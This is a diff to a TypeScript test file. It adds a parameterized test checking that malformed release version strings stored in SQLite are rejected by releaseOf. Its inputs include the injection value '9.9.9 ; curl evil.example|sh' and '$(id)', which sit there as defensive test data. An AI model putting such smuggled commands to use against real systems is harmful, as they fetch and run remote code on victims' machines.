@@ -4,6 +4,7 @@ import { afterEach, describe, expect, it } from 'vitest';
 import { openAgentSide } from '../../../src/backends/embedded/agent-side.ts';
 import { openCommitSide } from '../../../src/backends/embedded/commit-side.ts';
 import { nodeFoundation } from '../../../src/backends/embedded/node-foundation.ts';
+import { releaseOf } from '../../../src/backends/embedded/release-note.ts';
 import { storeFiles } from '../../../src/backends/embedded/store-files.ts';
 import { Database } from '../../../src/backends/sqlite/database.ts';
 import { DATA_MIGRATIONS, DATA_TABLES_VERSION } from '../../../src/backends/sqlite/schema/data.ts';
@@ -157,3 +158,14 @@ it('says what is wrong when this user may not write the -shm file', async ({ ski
     chmodSync(directory, 0o700);
   }
 });
+
+it.each(['9.9.9 ; curl evil.example|sh', '9.9.9\n9', '9.9', '$(id)', '9.9.9-a b', '9.9.9-x;y'])(
+  'what stands in the place of a release reaches no command that a person is told to run: %j',
+  (version) => {
+    const database = new Database(':memory:', { readOnly: false });
+    database.execute('CREATE TABLE release (version TEXT)');
+    database.run('INSERT INTO release VALUES (?)', version);
+    expect(releaseOf(database)).toBeNull();
+    database.close();
+  },
+);
